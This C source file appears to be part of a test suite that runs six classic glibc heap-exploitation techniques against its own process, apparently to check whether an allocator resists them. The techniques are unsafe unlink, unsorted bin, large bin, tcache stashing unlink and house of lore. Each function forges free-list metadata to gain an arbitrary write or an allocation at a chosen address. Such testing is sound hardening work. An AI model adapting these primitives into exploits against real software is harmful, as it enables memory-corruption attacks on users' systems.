// SPDX-License-Identifier: MIT
//
// attacks_bins.c - attacks on doubly linked lists of free blocks, as glibc's bins are: each makes the allocator write
// where the attacker wants while it links or unlinks, or hand out what he has put into a list.
#include "attacks.h"

static void *pointer;                                   // the program's, to a block
static _Alignas(16) uintptr_t target[8] = {1, 2, 3, 4}; // a variable nobody else writes

static bool target_changed(void)
{
    return target[4] != 0 || target[0] != 1 || target[1] != 2 || target[2] != 3 || target[3] != 4;
}

// "unsafe unlink": a chunk forged in a block is unlinked when the next one is freed. Its neighbours in the list are
// where the program keeps the pointer to the block.
static bool unlink_of_a_forged_chunk(void)
{
    uintptr_t *const block = calloc(1, 0x428);
    uintptr_t *const next = malloc(0x428);
    malloc(16);
    pointer = block;
    block[1] = 0x420;
    block[2] = (uintptr_t)&pointer - 3 * sizeof *block;
    block[3] = (uintptr_t)&pointer - 2 * sizeof *block;
    next[-2] = 0x420;
    next[-1] &= ~(uintptr_t)1;
    free(next);
    return pointer != block;
}

// The oldest of all: neighbours of the forged chunk that do not lead back to it.
static bool unlink_with_chosen_neighbours(void)
{
    uintptr_t *const block = calloc(1, 0x428);
    uintptr_t *const next = malloc(0x428);
    malloc(16);
    block[1] = 0x420;
    block[2] = (uintptr_t)(target - 3 + 1);
    block[3] = (uintptr_t)(target + 2);
    next[-2] = 0x420;
    next[-1] &= ~(uintptr_t)1;
    free(next);
    return target_changed();
}

// "unsorted bin attack"
static bool back_link_of_an_unsorted_block(void)
{
    uintptr_t *const block = malloc(0x428);
    malloc(16);
    free(block);
    block[1] = (uintptr_t)(target - 2);
    malloc(0x428);
    return target_changed();
}

// "large bin attack": the link to the next size, in a list that is sorted by size.
static bool size_link_of_a_sorted_block(void)
{
    uintptr_t *const larger = malloc(0x428);
    malloc(0x18);
    uintptr_t *const smaller = malloc(0x418);
    malloc(0x18);
    free(larger);
    malloc(0x438);
    free(smaller);
    larger[3] = (uintptr_t)(target - 4 + 1);
    malloc(0x438);
    return target_changed();
}

// "tcache stashing unlink": blocks of a list go to the thread cache on the side, unchecked.
static bool back_link_of_a_stashed_block(void)
{
    _Alignas(16) uintptr_t stack[64] = {0};
    void *blocks[9];
    take_some(0x90, blocks, 9);
    malloc(16);
    stack[3] = (uintptr_t)(stack + 32);
    free_all(blocks + 3, 6);
    free(blocks[1]);
    free(blocks[0]);
    free(blocks[2]);
    malloc(0xa0);
    malloc(0x90);
    malloc(0x90);
    ((uintptr_t *)blocks[2])[1] = (uintptr_t)stack;
    calloc(1, 0x90);
    return malloc(0x90) == (void *)(stack + 2);
}

// "house of lore": the same list, emptied block by block; the forged chunks on the stack lead back as they must.
static bool back_link_of_a_small_block(void)
{
    _Alignas(16) uintptr_t stack[2 + cache_places][64] = {0};
    void *cached[cache_places];
    take_some(0x100, cached, cache_places);
    uintptr_t *const block = malloc(0x100);
    malloc(1000);
    stack[0][2] = (uintptr_t)(block - 2);
    for (int number = 0; number < cache_places; number++)
    {
        stack[number][3] = (uintptr_t)stack[number + 1];
        stack[number + 1][2] = (uintptr_t)stack[number];
    }
    stack[cache_places][3] = (uintptr_t)stack[cache_places + 1];
    free_all(cached, cache_places);
    free(block);
    malloc(1200);
    block[1] = (uintptr_t)stack[0];
    take_some(0x100, cached, cache_places);
    malloc(0x100);
    return overlap(malloc(0x100), 0x100, stack, sizeof stack);
}

const struct attack attacks_on_bins[] = {
    {"unlink_of_a_forged_chunk", unlink_of_a_forged_chunk},
    {"unlink_with_chosen_neighbours", unlink_with_chosen_neighbours},
    {"back_link_of_an_unsorted_block", back_link_of_an_unsorted_block},
    {"size_link_of_a_sorted_block", size_link_of_a_sorted_block},
    {"back_link_of_a_stashed_block", back_link_of_a_stashed_block},
    {"back_link_of_a_small_block", back_link_of_a_small_block},
    {NULL, NULL},
};
